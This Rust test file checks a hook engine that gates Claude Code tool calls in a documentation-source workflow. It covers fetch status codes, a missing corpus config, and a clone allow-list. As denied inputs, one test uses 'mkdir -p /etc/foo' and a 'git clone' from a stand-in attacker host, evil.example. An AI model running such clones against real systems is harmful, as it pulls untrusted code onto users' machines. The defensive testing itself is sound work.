//! `hiivmind_add_source` through `seed hook`, payloads in and answers out, as Claude Code runs
//! it: the skill that starts the workflow, the HTTP status a fetch really got, the clone the
//! workflow names (and no other), and a project without a corpus config.

use crate::support::hook as hook_common;

use hook_common::{Sandbox, assert_snapshot_is_fold, payload};
use serde_json::{Value, json};

const SEQ: &[&str] = &["--sequence", "hiivmind_add_source"];
const SKILL: &str = "hiivmind-corpus:hiivmind-corpus-add-source";

struct Session<'a> {
    s: &'a Sandbox,
    id: &'a str,
    n: u32,
}

impl Session<'_> {
    fn send(&self, event: &str, extra: Value) -> Value {
        let r = self.s.hook(SEQ, payload(event, self.id, extra));
        assert_eq!(r.code, 0, "{}", r.stderr);
        if r.stdout.trim().is_empty() {
            Value::Null
        } else {
            r.json()
        }
    }

    /// PreToolUse (its answer: `null` when the call is allowed) then PostToolUse.
    fn call(&mut self, tool: &str, input: Value, response: Value) -> Value {
        self.n += 1;
        let id = format!("toolu_{}", self.n);
        let pre = self.send(
            "PreToolUse",
            json!({"tool_name": tool, "tool_input": input, "tool_use_id": id}),
        );
        self.send(
            "PostToolUse",
            json!({"tool_name": tool, "tool_input": input, "tool_response": response, "tool_use_id": id}),
        );
        pre
    }

    fn gate(&self, tool: &str, input: Value) -> Value {
        self.send(
            "PreToolUse",
            json!({"tool_name": tool, "tool_input": input, "tool_use_id": "toolu_gate"}),
        )
    }

    fn ask(&mut self, answer: &str) -> Value {
        let q = "Which one?";
        self.call(
            "AskUserQuestion",
            json!({"questions": [{"question": q, "header": "h", "options": [], "multiSelect": false}], "answers": {q: answer}}),
            json!({"answers": {q: answer}}),
        )
    }

    fn status(&self) -> Value {
        let o = self
            .s
            .cmd()
            .args(["status", "--session", self.id, "--json"])
            .args(SEQ)
            .output()
            .unwrap();
        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
            panic!("status --json: {e}: {}", String::from_utf8_lossy(&o.stdout))
        })
    }

    fn at(&self) -> Value {
        self.status()["current"].clone()
    }
}

fn corpus(s: &Sandbox) {
    std::fs::create_dir_all(s.project().join("data")).unwrap();
    std::fs::write(s.project().join("data/config.yaml"), "sources: []\n").unwrap();
}

/// Start a session, call the skill, read the config, choose llms.txt and name the site.
fn at_detection<'a>(s: &'a Sandbox, id: &'a str) -> Session<'a> {
    let mut w = Session { s, id, n: 0 };
    w.send("SessionStart", json!({"source": "startup"}));
    let config = s.project().join("data/config.yaml");
    assert_eq!(
        w.call(
            "Skill",
            json!({"skill": SKILL}),
            json!({"success": true, "commandName": SKILL})
        ),
        Value::Null,
        "the workflow's own skill is allowed"
    );
    w.call(
        "Read",
        json!({"file_path": config}),
        json!({"type": "text", "file": {"filePath": config, "content": "sources: []\n", "numLines": 1, "startLine": 1, "totalLines": 1}}),
    );
    w.ask("llms.txt site");
    w.ask("https://docs.acme.dev");
    assert_eq!(w.at(), json!(["try_llms_txt_detection"]));
    w
}

fn fetch_result(code: Value, result: &str) -> Value {
    json!({"bytes": result.len(), "code": code, "codeText": "", "result": result, "durationMs": 420, "url": "https://docs.acme.dev/llms.txt"})
}

const MANIFEST: &str = "https://docs.acme.dev/llms.txt";

#[test]
fn a_fetch_that_got_a_404_found_no_manifest() {
    let s = Sandbox::new();
    corpus(&s);
    let mut w = at_detection(&s, "s-404");
    let pre = w.call(
        "WebFetch",
        json!({"url": MANIFEST, "prompt": "list the sections"}),
        fetch_result(json!(404), "Not Found"),
    );
    assert_eq!(pre, Value::Null);
    assert_eq!(
        w.at(),
        json!(["ask_source_type"]),
        "no manifest, so no offer of one"
    );
    assert_eq!(w.status()["vars"]["manifest_check"]["status"], json!(404));
    assert_snapshot_is_fold(&s.home(), "s-404");
}

#[test]
fn a_fetch_that_got_a_200_found_the_manifest_however_long_the_page() {
    let s = Sandbox::new();
    corpus(&s);
    // Longer than a result the engine keeps whole: its status still counts.
    let page = "- [Intro](intro.md)\n".repeat(2_000);
    let mut w = at_detection(&s, "s-200");
    w.call(
        "WebFetch",
        json!({"url": MANIFEST, "prompt": "list the sections"}),
        fetch_result(json!(200), &page),
    );
    assert_eq!(w.at(), json!(["present_manifest_option"]));
    // A response with no status at all (not a fetch's) is not taken for a success.
    let mut w = at_detection(&s, "s-none");
    w.call(
        "WebFetch",
        json!({"url": MANIFEST, "prompt": "x"}),
        json!("Fetched."),
    );
    assert_eq!(w.at(), json!(["ask_source_type"]));
}

#[test]
fn only_the_clone_the_workflow_names_is_allowed_and_it_is_suggested_as_written() {
    let s = Sandbox::new();
    corpus(&s);
    let mut w = Session {
        s: &s,
        id: "s-git",
        n: 0,
    };
    let config = s.project().join("data/config.yaml");
    w.call(
        "Read",
        json!({"file_path": config}),
        json!({"type": "text", "file": {"filePath": config, "content": "sources: []\n"}}),
    );
    w.ask("Git repository");
    w.ask("https://github.com/acme/docs");
    w.ask("acme-docs");
    let deny = |v: &Value| {
        v["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .map(String::from)
    };
    let v = w.gate("Bash", json!({"command": "mkdir -p /etc/foo"}));
    let reason = deny(&v).expect("denied");
    assert!(
        reason.contains("Bash(command=\"mkdir -p .source\")"),
        "{reason}"
    );
    w.call(
        "Bash",
        json!({"command": "mkdir -p .source"}),
        json!({"stdout": "", "stderr": ""}),
    );
    let v = w.gate(
        "Bash",
        json!({"command": "git clone https://evil.example/x.git /tmp/y"}),
    );
    let reason = deny(&v).expect("denied");
    assert!(
        reason.contains(
            "Bash(command=\"git clone --depth 1 https://github.com/acme/docs .source/acme-docs\")"
        ),
        "{reason}"
    );
    assert_eq!(
        w.status()["next"]["tool"],
        json!(
            "Bash(command=\"git clone --depth 1 https://github.com/acme/docs .source/acme-docs\")"
        )
    );
    let ok = w.call(
        "Bash",
        json!({"command": "git clone --depth 1 https://github.com/acme/docs .source/acme-docs"}),
        json!({"stdout": "", "stderr": "Cloning into '.source/acme-docs'...\n"}),
    );
    assert_eq!(ok, Value::Null);
    assert_eq!(w.at(), json!(["clone_source.get_sha"]));
    // The dashboard's statechart names each step's call as the agent makes it, with the
    // session's values, never the patterns that recognise it.
    let out = s.dir.path().join("frame.txt");
    let o = s
        .cmd()
        .args([
            "screenshot",
            "s-git",
            "--at-end",
            "--size",
            "200x60",
            "--format",
            "txt",
        ])
        .args(SEQ)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let frame = std::fs::read_to_string(&out).unwrap();
    for shown in [
        "locate_corpus  Read(file_path=\"data/config.yaml\")",
        "clone_source.clone_repo  Bash(command=\"git clone --depth 1 ht",
        "cache_manifest  Write(file_path=\"data/llms/acme-docs/llms.txt\")",
    ] {
        assert!(frame.contains(shown), "{shown}\n{frame}");
    }
    assert!(
        !frame.contains("/file_path=") && !frame.contains("/command="),
        "{frame}"
    );
}

#[test]
fn without_a_corpus_config_init_may_run_and_the_skill_starts_again() {
    let s = Sandbox::new();
    let mut w = Session {
        s: &s,
        id: "s-noconf",
        n: 0,
    };
    let start = w.send("SessionStart", json!({"source": "startup"}));
    assert!(
        start["hookSpecificOutput"]["additionalContext"]
            .as_str()
            .is_some_and(|c| c.contains("error_no_config")),
        "{start}"
    );
    let init = w.call(
        "Skill",
        json!({"skill": "hiivmind-corpus:hiivmind-corpus-init"}),
        json!({"success": true}),
    );
    assert_eq!(init, Value::Null, "the recovery's skill is allowed");
    corpus(&s);
    assert_eq!(
        w.call("Skill", json!({"skill": SKILL}), json!({"success": true})),
        Value::Null
    );
    assert_eq!(w.at(), json!(["locate_corpus"]));
    assert_snapshot_is_fold(&s.home(), "s-noconf");
}
